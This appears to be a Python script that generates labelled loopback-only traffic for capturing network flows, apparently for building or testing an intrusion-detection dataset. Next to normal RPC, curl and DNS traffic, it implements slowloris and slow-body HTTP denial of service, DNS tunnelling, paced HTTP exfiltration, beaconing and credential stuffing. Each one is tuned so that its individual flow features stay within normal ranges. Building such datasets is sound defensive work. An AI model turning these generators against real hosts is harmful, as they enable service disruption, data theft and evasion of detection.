#!/usr/bin/python3
"""Small loopback-only traffic helpers for capture-flows.sh (stdlib only).

Every client here connects to 127.0.0.1 and nothing else, and every loop is
bounded both by a count and by a wall-clock deadline, so a phase always ends
by itself even if a server misbehaves.

Sub-commands
  rpc-server   line-oriented request/response server ("RPC-like" service)
  rpc-client   many short RPC sessions against rpc-server (normal traffic)
  slow-http    slowloris (partial headers) + slow body (R.U.D.Y.) against nginx
  curl-plan    print a seeded list of curl argument lines (one invocation a line)
               and write the POST body sizes it uses to --post-sizes-out
  dns-plan     write seeded dig batch files, one per option group (udp, tcp, -edns)
  upload-plan  print a seeded list of "METHOD SIZE_BYTES FLAGS" lines

Sub-commands of the `joint` variant: attacks whose flows look normal feature
by feature but not in combination (see tests/capture/README.md)
  tunnel-plan  write a dig batch file of DNS-tunnelling queries (base32 data in labels)
  http-exfil   keep-alive sessions that POST ordinary-sized bodies, paced, many per connection
  beacon       short RPC connections at a fixed period with a fixed small payload
  cred-stuff   keep-alive sessions of many small POST /login forms (each answered 404)
"""
import base64
import argparse
import hashlib
import random
import socket
import socketserver
import sys
import threading
import time
from collections import Counter

HOST = "127.0.0.1"  # the only address any generator here ever targets


# --------------------------------------------------------------------------
# RPC-like service: "CALL <method> <id> <payload>\n" -> "OK <id> <n> <digest>\n"
# --------------------------------------------------------------------------
class RpcHandler(socketserver.StreamRequestHandler):
    timeout = 30  # idle sessions are dropped, so stray clients cannot pin threads

    def handle(self):
        try:
            for raw in self.rfile:
                line = raw.decode("latin-1").rstrip("\r\n")
                if line == "QUIT":
                    self.wfile.write(b"BYE\n")
                    return
                parts = line.split(" ", 3)
                if len(parts) == 4 and parts[0] == "CALL":
                    _, method, rid, payload = parts
                    digest = hashlib.sha1(payload.encode("latin-1")).hexdigest()
                    if method == "get":  # "get" returns a bigger body, like a read RPC
                        body = (digest * (1 + len(payload) // 20))[: 4 * len(payload)]
                    else:
                        body = digest[:16]
                    self.wfile.write(f"OK {rid} {len(payload)} {body}\n".encode())
                else:  # scanners and junk get a short error, like a real service
                    self.wfile.write(b"ERR bad-request\n")
        except (OSError, ValueError):
            pass


class ThreadingServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 256


def rpc_server(a):
    with ThreadingServer((HOST, a.port), RpcHandler) as srv:
        srv.serve_forever()


def rpc_client(a):
    rng = random.Random(a.seed)
    deadline = time.monotonic() + a.max_seconds
    sessions = []
    for i in range(a.conns):
        calls = rng.randint(a.min_calls, a.max_calls)
        sessions.append([(rng.choice(a.methods.split(",")),
                          rng.randint(a.payload_min, a.payload_max),
                          rng.uniform(0, a.think_ms_max) / 1000.0) for _ in range(calls)])
    lock = threading.Lock()
    todo = list(range(len(sessions)))
    done = [0, 0]

    def worker():
        while time.monotonic() < deadline:
            with lock:
                if not todo:
                    return
                idx = todo.pop(0)
            try:
                with socket.create_connection((HOST, a.port), timeout=5) as s:
                    f = s.makefile("rwb")
                    for n, (method, size, think) in enumerate(sessions[idx]):
                        if time.monotonic() >= deadline:
                            break
                        payload = "x" * size
                        f.write(f"CALL {method} {idx}.{n} {payload}\n".encode())
                        f.flush()
                        f.readline()
                        time.sleep(think)
                    f.write(b"QUIT\n")
                    f.flush()
                    f.readline()
                with lock:
                    done[0] += 1
            except OSError:
                with lock:
                    done[1] += 1

    threads = [threading.Thread(target=worker) for _ in range(a.workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()) + 5)
    print(f"rpc-client: sessions ok={done[0]} failed={done[1]}", file=sys.stderr)


# --------------------------------------------------------------------------
# Slow HTTP attacks against nginx: keep many connections open while sending
# almost nothing (partial headers, or a declared body trickled a few bytes at
# a time). Bounded by --conns and --duration; all sockets closed at the end.
# --------------------------------------------------------------------------
def slow_http(a):
    rng = random.Random(a.seed)
    start = time.monotonic()
    end = start + a.duration
    conns = []  # [socket, next_send_time, kind, sent_parts]
    n_body = int(round(a.conns * a.body_fraction))
    kinds = ["body"] * n_body + ["header"] * (a.conns - n_body)
    rng.shuffle(kinds)
    opened = failed = 0
    for i, kind in enumerate(kinds):
        # ramp up: spread connection openings over the first --ramp seconds
        t_open = start + a.ramp * i / max(1, len(kinds))
        while time.monotonic() < t_open:
            _tick(conns, rng, a, time.monotonic())
            time.sleep(0.005)
        if time.monotonic() >= end:
            break
        try:
            s = socket.create_connection((HOST, a.port), timeout=3)
            s.setblocking(True)
            if kind == "header":
                s.sendall(f"GET /index.html?s={i} HTTP/1.1\r\nHost: {HOST}\r\n"
                          f"User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n".encode())
            else:
                s.sendall(f"PUT /upload/slow-{i % 8}.bin HTTP/1.1\r\nHost: {HOST}\r\n"
                          f"Content-Type: application/octet-stream\r\n"
                          f"Content-Length: {a.body_length}\r\n\r\n".encode())
            conns.append([s, time.monotonic() + rng.uniform(a.interval_min, a.interval_max), kind, 0])
            opened += 1
        except OSError:
            failed += 1
    while time.monotonic() < end and conns:
        _tick(conns, rng, a, time.monotonic())
        time.sleep(0.02)
    for c in conns:
        try:
            c[0].close()
        except OSError:
            pass
    print(f"slow-http: opened={opened} failed={failed} alive_at_end={len(conns)}", file=sys.stderr)


def _tick(conns, rng, a, now):
    for c in list(conns):
        s, due, kind, sent = c
        if now < due:
            continue
        try:
            if kind == "header":
                s.sendall(f"X-{rng.randint(1, 9999)}: {rng.randint(1, 99999)}\r\n".encode())
            else:
                s.sendall(b"a" * rng.randint(a.chunk_min, a.chunk_max))
            c[1] = now + rng.uniform(a.interval_min, a.interval_max)
            c[3] = sent + 1
        except OSError:  # the server gave up on us (timeout) - drop it
            conns.remove(c)
            try:
                s.close()
            except OSError:
                pass


# --------------------------------------------------------------------------
# Seeded plans, so both variants replay the same request mix on every run.
# --------------------------------------------------------------------------
def curl_plan(a):
    rng = random.Random(a.seed)
    base = f"http://{HOST}:{a.port}"
    files = a.files.split(",")
    weights = [float(w) for w in a.file_weights.split(",")]
    mix = [float(x) for x in a.mix.split(",")]  # single,keepalive,post,head,missing
    kinds = ["single", "keepalive", "post", "head", "missing"]
    post_sizes = set()
    for i in range(a.count):
        kind = rng.choices(kinds, weights=mix)[0]
        common = "-s --max-time 10"  # bodies go to stdout, which the caller discards
        if rng.random() < a.http10:
            common += " -0"
        if kind == "single":
            print(f"{common} {base}/{rng.choices(files, weights=weights)[0]}")
        elif kind == "keepalive":  # several URLs in one invocation reuse one connection
            urls = " ".join(f"{base}/{rng.choices(files, weights=weights)[0]}"
                            for _ in range(rng.randint(2, a.keepalive_max)))
            print(f"{common} {urls}")
        elif kind == "post":
            size = rng.randint(a.post_min, a.post_max)
            post_sizes.add(size)
            print(f"{common} -H Expect: --data-binary @{a.post_dir}/post-{size}.bin "
                  f"{base}/upload/form-{i % 16}")
        elif kind == "head":
            print(f"{common} -I {base}/{rng.choice(files)}")
        else:
            print(f"{common} {base}/missing/{rng.randint(1, 500)}.html")
    # the POST bodies the plan references; bash creates them before the phase
    with open(a.post_sizes_out, "w") as f:
        f.writelines(f"{s}\n" for s in sorted(post_sizes))


def dns_plan(a):
    """Write dig batch files <prefix>.<transport>[-edns]: dig ignores per-line
    options in batch mode, so queries are grouped by the options they need."""
    rng = random.Random(a.seed)
    names = a.names.split(",")
    qtypes = a.qtypes.split(",")
    groups = {}
    for i in range(a.count):
        if rng.random() < a.nx_fraction:
            name = f"host{rng.randint(1, 100000)}.{a.zone}"
        else:
            name = rng.choice(names)
        qtype = rng.choice(qtypes)
        group = "tcp" if rng.random() < a.tcp_fraction else "udp"
        if rng.random() < a.edns_fraction:
            group += "-edns"
        groups.setdefault(group, []).append(f"{name} {qtype}\n")
    for group, lines in sorted(groups.items()):
        with open(f"{a.out_prefix}.{group}", "w") as f:
            f.writelines(lines)
        print(f"dns-plan: {group}: {len(lines)} queries", file=sys.stderr)


def upload_plan(a):
    rng = random.Random(a.seed)
    for i in range(a.count):
        size = rng.randint(a.size_min_mb, a.size_max_mb) * 1024 * 1024
        r = rng.random()
        method = "PUT" if r < a.put_fraction else "POST"
        chunked = "chunked" if rng.random() < a.chunked_fraction else "plain"
        print(f"{method} {size} {chunked} {i}")


# --------------------------------------------------------------------------
# `joint` variant attacks. Each one is meant to keep every single flow feature
# inside the range the main variant's normal traffic covers (sizes, pacing,
# durations), so that only the combination of features is unusual.
# --------------------------------------------------------------------------
def tunnel_plan(a):
    """DNS tunnelling: a seeded 'file' is base32-encoded and sent as the first
    label of <chunk>.<zone> queries (dig batch file, one query a line, so dig
    sends them at the rate it sends normal queries). Chunk lengths are drawn
    from --chunk-min..--chunk-max base32 characters, so some names are as long
    as normal ones and the rest a little longer."""
    rng = random.Random(a.seed)
    data = bytes(rng.getrandbits(8) for _ in range(a.count * a.chunk_max))
    text = base64.b32encode(data).decode().rstrip("=").lower()
    qtypes = a.qtypes.split(",")
    pos = 0
    with open(a.out, "w") as f:
        for _ in range(a.count):
            n = rng.randint(a.chunk_min, a.chunk_max)
            chunk = text[pos:pos + n]
            pos += n
            f.write(f"{chunk}.{a.zone} {rng.choice(qtypes)}\n")
    print(f"tunnel-plan: {a.count} queries, {pos} base32 characters", file=sys.stderr)


def _http_post(f, port, path, body, content_type):
    """One HTTP/1.1 keep-alive POST (headers as curl sends them); returns the status."""
    f.write(f"POST {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\nUser-Agent: curl/7.88.1\r\n"
            f"Accept: */*\r\nContent-Length: {len(body)}\r\n"
            f"Content-Type: {content_type}\r\n\r\n".encode() + body)
    f.flush()
    status = f.readline().split(b" ", 2)
    length = 0
    while True:
        line = f.readline()
        if line in (b"\r\n", b"\n", b""):
            break
        name, _, value = line.decode("latin-1").partition(":")
        if name.strip().lower() == "content-length":
            length = int(value.strip())
    if length:
        f.read(length)
    return int(status[1]) if len(status) > 1 and status[1].isdigit() else 0


def _run_sessions(a, sessions, one_request, what):
    """Run keep-alive sessions (lists of requests) over --workers threads, one
    connection per session, sleeping each request's think time after it."""
    deadline = time.monotonic() + a.max_seconds
    lock = threading.Lock()
    todo = list(range(len(sessions)))
    counts = Counter()

    def worker():
        while time.monotonic() < deadline:
            with lock:
                if not todo:
                    return
                idx = todo.pop(0)
            try:
                # close the file object too: while it is open, closing the socket
                # does not close the descriptor and the FIN waits for the next GC
                with socket.create_connection((HOST, a.port), timeout=5) as s, s.makefile("rwb") as f:
                    for n, (req, think) in enumerate(sessions[idx]):
                        if time.monotonic() >= deadline:
                            break
                        status = one_request(f, idx, n, req)
                        with lock:
                            counts[f"status-{status}"] += 1
                        time.sleep(think)
                with lock:
                    counts["sessions-ok"] += 1
            except (OSError, ValueError):
                with lock:
                    counts["sessions-failed"] += 1

    threads = [threading.Thread(target=worker) for _ in range(a.workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()) + 5)
    print(f"{what}: " + " ".join(f"{k}={v}" for k, v in sorted(counts.items())), file=sys.stderr)


def http_exfil(a):
    """Low-and-slow exfiltration: each session is one keep-alive connection
    that POSTs --min-posts..--max-posts bodies of --body-min..--body-max bytes
    (the normal curl POST range) to /upload/, pausing up to --think-ms-max
    between them (the normal RPC clients' pacing)."""
    rng = random.Random(a.seed)
    sessions = [[(rng.randint(a.body_min, a.body_max), rng.uniform(a.think_ms_min, a.think_ms_max) / 1000.0)
                 for _ in range(rng.randint(a.min_posts, a.max_posts))] for _ in range(a.sessions)]
    blob = bytes(rng.getrandbits(8) for _ in range(a.body_max))

    def post(f, idx, n, size):
        return _http_post(f, a.port, f"/upload/form-{(idx + n) % 16}", blob[:size],
                          "application/x-www-form-urlencoded")
    _run_sessions(a, sessions, post, "http-exfil")


def cred_stuff(a):
    """Credential stuffing: each session is one keep-alive connection that
    POSTs --min-tries..--max-tries small login forms to /login (no such page:
    nginx answers each with a small 404)."""
    rng = random.Random(a.seed)
    sessions = []
    for _ in range(a.sessions):
        tries = []
        for _ in range(rng.randint(a.min_tries, a.max_tries)):
            user = f"user{rng.randint(1, 99999)}@example.test"
            pw = "".join(rng.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(rng.randint(6, 14)))
            tries.append((f"username={user}&password={pw}".encode(), rng.uniform(0, a.think_ms_max) / 1000.0))
        sessions.append(tries)

    def post(f, idx, n, body):
        return _http_post(f, a.port, "/login", body, "application/x-www-form-urlencoded")
    _run_sessions(a, sessions, post, "cred-stuff")


def beacon(a):
    """Periodic beaconing: every --period seconds a new connection sends one
    fixed CALL with a fixed --payload-size payload, reads the answer and quits."""
    payload = base64.b32encode(hashlib.sha1(b"recon-beacon").digest()).decode()
    payload = (payload * (1 + a.payload_size // len(payload)))[: a.payload_size]
    start = time.monotonic()
    ok = failed = 0
    for i in range(a.count):
        due = start + i * a.period
        if due - start > a.max_seconds:
            break
        time.sleep(max(0.0, due - time.monotonic()))
        try:
            with socket.create_connection((HOST, a.port), timeout=5) as s, s.makefile("rwb") as f:
                f.write(f"CALL {a.method} beacon {payload}\n".encode())
                f.flush()
                f.readline()
                f.write(b"QUIT\n")
                f.flush()
                f.readline()
            ok += 1
        except OSError:
            failed += 1
    print(f"beacon: ok={ok} failed={failed}", file=sys.stderr)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)

    s = sub.add_parser("rpc-server")
    s.add_argument("--port", type=int, required=True)

    s = sub.add_parser("rpc-client")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--conns", type=int, required=True)
    s.add_argument("--min-calls", type=int, default=1)
    s.add_argument("--max-calls", type=int, default=10)
    s.add_argument("--payload-min", type=int, default=16)
    s.add_argument("--payload-max", type=int, default=512)
    s.add_argument("--think-ms-max", type=float, default=10)
    s.add_argument("--methods", default="get,put,sum")
    s.add_argument("--workers", type=int, default=4)
    s.add_argument("--max-seconds", type=float, default=60)
    s.add_argument("--seed", type=int, default=1)

    s = sub.add_parser("slow-http")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--conns", type=int, required=True)
    s.add_argument("--body-fraction", type=float, default=0.25)
    s.add_argument("--body-length", type=int, default=1000000)
    s.add_argument("--chunk-min", type=int, default=1)
    s.add_argument("--chunk-max", type=int, default=8)
    s.add_argument("--interval-min", type=float, default=2)
    s.add_argument("--interval-max", type=float, default=5)
    s.add_argument("--ramp", type=float, default=5)
    s.add_argument("--duration", type=float, required=True)
    s.add_argument("--seed", type=int, default=1)

    for name in ("curl-plan",):
        s = sub.add_parser(name)
        s.add_argument("--post-sizes-out", required=True)
        s.add_argument("--port", type=int, required=True)
        s.add_argument("--count", type=int, required=True)
        s.add_argument("--files", required=True)
        s.add_argument("--file-weights", required=True)
        s.add_argument("--mix", default="70,15,10,3,2")
        s.add_argument("--keepalive-max", type=int, default=6)
        s.add_argument("--post-min", type=int, default=256)
        s.add_argument("--post-max", type=int, default=32768)
        s.add_argument("--post-dir", default="/tmp")
        s.add_argument("--http10", type=float, default=0.0)
        s.add_argument("--seed", type=int, default=1)

    s = sub.add_parser("dns-plan")
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--zone", required=True)
    s.add_argument("--names", required=True)
    s.add_argument("--qtypes", required=True)
    s.add_argument("--nx-fraction", type=float, default=0.1)
    s.add_argument("--tcp-fraction", type=float, default=0.05)
    s.add_argument("--edns-fraction", type=float, default=0.0)
    s.add_argument("--out-prefix", required=True)
    s.add_argument("--seed", type=int, default=1)

    s = sub.add_parser("upload-plan")
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--size-min-mb", type=int, required=True)
    s.add_argument("--size-max-mb", type=int, required=True)
    s.add_argument("--put-fraction", type=float, default=0.7)
    s.add_argument("--chunked-fraction", type=float, default=0.0)
    s.add_argument("--seed", type=int, default=1)

    s = sub.add_parser("tunnel-plan")
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--zone", required=True)
    s.add_argument("--qtypes", default="TXT,TXT,A,NULL")
    s.add_argument("--chunk-min", type=int, default=6)
    s.add_argument("--chunk-max", type=int, default=28)
    s.add_argument("--out", required=True)
    s.add_argument("--seed", type=int, default=1)

    for name in ("http-exfil", "cred-stuff"):
        s = sub.add_parser(name)
        s.add_argument("--port", type=int, required=True)
        s.add_argument("--sessions", type=int, required=True)
        s.add_argument("--think-ms-max", type=float, default=20)
        s.add_argument("--workers", type=int, default=4)
        s.add_argument("--max-seconds", type=float, default=60)
        s.add_argument("--seed", type=int, default=1)
        if name == "http-exfil":
            s.add_argument("--min-posts", type=int, default=10)
            s.add_argument("--max-posts", type=int, default=40)
            s.add_argument("--body-min", type=int, default=256)
            s.add_argument("--body-max", type=int, default=32768)
            s.add_argument("--think-ms-min", type=float, default=5)
        else:
            s.add_argument("--min-tries", type=int, default=20)
            s.add_argument("--max-tries", type=int, default=80)

    s = sub.add_parser("beacon")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--period", type=float, required=True)
    s.add_argument("--payload-size", type=int, default=48)
    s.add_argument("--method", default="sum")
    s.add_argument("--max-seconds", type=float, default=60)

    a = p.parse_args()
    {"rpc-server": rpc_server, "rpc-client": rpc_client, "slow-http": slow_http,
     "curl-plan": curl_plan, "dns-plan": dns_plan,
     "upload-plan": upload_plan, "tunnel-plan": tunnel_plan, "http-exfil": http_exfil,
     "cred-stuff": cred_stuff, "beacon": beacon}[a.cmd](a)


if __name__ == "__main__":
    main()
